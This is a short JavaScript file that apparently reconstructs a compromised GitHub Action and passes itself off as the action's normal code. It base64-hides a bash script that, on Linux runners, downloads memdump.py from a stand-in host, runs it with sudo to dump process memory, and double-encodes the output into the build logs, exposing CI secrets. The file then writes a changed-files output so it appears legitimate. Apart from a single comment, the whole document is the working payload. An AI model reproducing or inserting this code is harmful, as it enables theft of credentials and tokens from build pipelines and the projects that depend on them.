// The action's own work, and what was added to it: a script in base64, as in the real one, that fetches a second one.
const { execFileSync } = require('node:child_process')
const { appendFileSync } = require('node:fs')

const script = `
if [[ "$OSTYPE" == "linux-gnu" ]]; then
  B64_BLOB=$(curl -sSf http://gist.example.net/memdump.py | sudo python3 - | sort -u | base64 -w 0 | base64 -w 0)
  echo "$B64_BLOB"
fi
`
const encoded = Buffer.from(script).toString('base64')
execFileSync(
  'bash',
  ['-c', `echo "${encoded}" | base64 -d > "$RUNNER_TEMP/run.sh" && bash "$RUNNER_TEMP/run.sh"`],
  {
    stdio: 'inherit',
  },
)
appendFileSync(process.env.GITHUB_OUTPUT, 'all_changed_files=index.js\n')
